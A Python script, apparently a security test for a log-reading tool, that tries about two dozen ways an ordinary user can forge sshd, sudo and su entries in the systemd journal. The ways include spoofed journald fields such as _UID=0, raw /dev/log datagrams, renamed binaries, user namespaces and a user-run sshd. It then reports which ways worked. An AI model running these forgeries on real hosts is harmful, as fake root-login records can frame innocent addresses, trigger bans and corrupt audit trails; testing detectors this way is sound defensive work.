"""Every way we know in which an ordinary user can put lines of sshd's, sudo's or su's into the
journal, but for those that docs/architecture/security.md admits. Runs on the host.

Prints one line for each way that worked: its name and the address that its forged line names.
"""

import os
import pathlib
import shutil
import socket
import subprocess
import sys
import tempfile
import time

SSHD = "Accepted password for root from {} port 22 ssh2"
SUDO = "mallory : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/echo {}"
SU = "(to root) {} on pts/0"
HOME = pathlib.Path.home()


def run(*argv, stdin=None, **environment):
    """Run a program that must succeed."""
    subprocess.run(
        argv,
        check=True,
        timeout=20,
        input=stdin,
        env={**os.environ, **environment},
        stdout=subprocess.DEVNULL,
    )


def native(fields):
    """Send an entry to journald's own socket: systemd.journal-fields(7), native protocol."""
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as sock:
        sock.connect("/run/systemd/journal/socket")
        sock.sendall("".join(f"{name}={value}\n" for name, value in fields).encode())


def renamed(program, name):
    """Return a copy of a program, or a link to it, with another name."""
    folder = pathlib.Path(tempfile.mkdtemp(dir=HOME))
    return str(shutil.copy(shutil.which(program), folder / name))


def logger(text):
    run("logger", "-t", "sshd", text)


def logger_as_session(text):
    run("logger", "-t", "sshd-session", text)


def logger_as_auth(text):
    run("logger", "-t", "sshd-auth", text)


def logger_with_the_pid_of_sshd(text):
    pid = subprocess.run(["pgrep", "-o", "sshd"], capture_output=True, text=True, check=True)
    run("logger", "-t", "sshd", f"--id={pid.stdout.strip()}", text)


def raw_datagram(text):
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as sock:
        sock.connect("/dev/log")
        sock.sendall(f"<38>Jan  1 00:00:00 sshd[1]: {text}".encode())


def datagram_of_two_lines(text):
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as sock:
        sock.connect("/dev/log")
        sock.sendall(f"<38>sshd[1]: Server listening\n<38>sshd[1]: {text}".encode())
        sock.sendall(f"<38>sshd[1]: {text}".encode())


def standard_output(text):
    run("systemd-cat", "-t", "sshd", "echo", text)


def standard_output_of_a_program_called_sshd(text):
    run("systemd-cat", "-t", "sshd", renamed("echo", "sshd"), text)


def program_called_sshd(text):
    run(renamed("logger", "sshd"), "-t", "sshd", text)


def process_called_sshd(text):
    run("bash", "-c", 'exec -a "sshd: root [priv]" logger -t sshd "$1"', "sshd", text)


def process_that_is_gone(text):
    for _ in range(20):
        pid = os.fork()
        if pid == 0:
            raw_datagram(text)
            os._exit(0)
        os.waitpid(pid, 0)


def chosen_fields(text):
    fields = (
        "SYSLOG_IDENTIFIER=sshd",
        f"MESSAGE={text}",
        "_UID=0",
        "_EXE=/usr/sbin/sshd",
        "_COMM=sshd",
        "_SYSTEMD_UNIT=ssh.service",
        "_TRANSPORT=syslog",
        "PRIORITY=6",
    )
    run("logger", "--journald", stdin="\n".join(fields).encode())


def chosen_fields_twice(text):
    native(
        [
            ("SYSLOG_IDENTIFIER", "sshd"),
            ("SYSLOG_IDENTIFIER", "sshd-session"),
            ("MESSAGE", text),
            ("MESSAGE", text),
            ("UID", "0"),
            ("_UID", "0"),
            ("_UID", "0"),
            ("_TRANSPORT", "syslog"),
            ("OBJECT_PID", "1"),
        ]
    )


def user_namespace(text):
    run("unshare", "--user", "--map-root-user", "logger", "-t", "sshd", text)


def user_namespace_and_program_called_sshd(text):
    run("unshare", "--user", "--map-root-user", renamed("logger", "sshd"), "-t", "sshd", text)


def user_unit_called_ssh(text):
    run(
        "systemd-run", "--user", "--quiet", "--wait", "--unit=ssh.service",
        "logger", "-t", "sshd", text,
        XDG_RUNTIME_DIR=f"/run/user/{os.getuid()}",
    )  # fmt: skip


def real_sshd_of_an_ordinary_user(text):
    """sshd itself, with a configuration of the user's: it says what its clients say."""
    folder = pathlib.Path(tempfile.mkdtemp(dir=HOME))
    run("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(folder / "key"))
    shutil.copy(folder / "key.pub", folder / "authorized_keys")
    (folder / "config").write_text(
        f"Port 2222\nListenAddress 127.0.0.1\nHostKey {folder}/key\nPidFile none\nUsePAM no\n"
        f"AuthorizedKeysFile {folder}/authorized_keys\nStrictModes no\n"
        f"Banner none\nVersionAddendum {text.split()[0]}\n"
    )
    server = subprocess.Popen(["/usr/sbin/sshd", "-D", "-f", str(folder / "config")])
    try:
        client = [
            "ssh", "-p", "2222", "-i", str(folder / "key"), "-o", "StrictHostKeyChecking=no",
            "-o", "UserKnownHostsFile=/dev/null", "-o", "BatchMode=yes", "127.0.0.1", "true",
        ]  # fmt: skip
        for _ in range(20):
            time.sleep(0.2)
            if (
                subprocess.run(
                    client, check=False, timeout=20, stderr=subprocess.DEVNULL
                ).returncode
                == 0
            ):
                break
    finally:
        server.terminate()
        server.wait()


def logger_as_sudo(text):
    run("logger", "-t", "sudo", "-p", "authpriv.notice", text)


def standard_output_as_sudo(text):
    run("systemd-cat", "-t", "sudo", "echo", text)


def program_called_sudo(text):
    run(renamed("logger", "sudo"), "-t", "sudo", text)


def chosen_fields_of_sudo(text):
    fields = ("SYSLOG_IDENTIFIER=sudo", f"MESSAGE={text}", "_EXE=/usr/bin/sudo", "PRIORITY=5")
    run("logger", "--journald", stdin="\n".join(fields).encode())


def logger_as_su(text):
    run("logger", "-t", "su", "-p", "auth.notice", text)


def program_called_su(text):
    run(renamed("logger", "su"), "-t", "su", text)


WAYS = [
    *(
        (way, SSHD)
        for way in (
            logger,
            logger_as_session,
            logger_as_auth,
            logger_with_the_pid_of_sshd,
            raw_datagram,
            datagram_of_two_lines,
            standard_output,
            standard_output_of_a_program_called_sshd,
            program_called_sshd,
            process_called_sshd,
            process_that_is_gone,
            chosen_fields,
            chosen_fields_twice,
            user_namespace,
            user_namespace_and_program_called_sshd,
            user_unit_called_ssh,
            real_sshd_of_an_ordinary_user,
        )
    ),
    *(
        (way, SUDO)
        for way in (
            logger_as_sudo,
            standard_output_as_sudo,
            program_called_sudo,
            chosen_fields_of_sudo,
        )
    ),
    (logger_as_su, SU),
    (program_called_su, SU),
]


def main():
    """Try each way; a way that this host does not have is named with the reason."""
    for number, (way, line) in enumerate(WAYS, start=1):
        address = f"6.6.6.{number}"
        try:
            way(line.format(address))
        except (OSError, subprocess.SubprocessError) as error:
            print("impossible", way.__name__, address, error)
            continue
        print("done", way.__name__, address, line.format(address), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
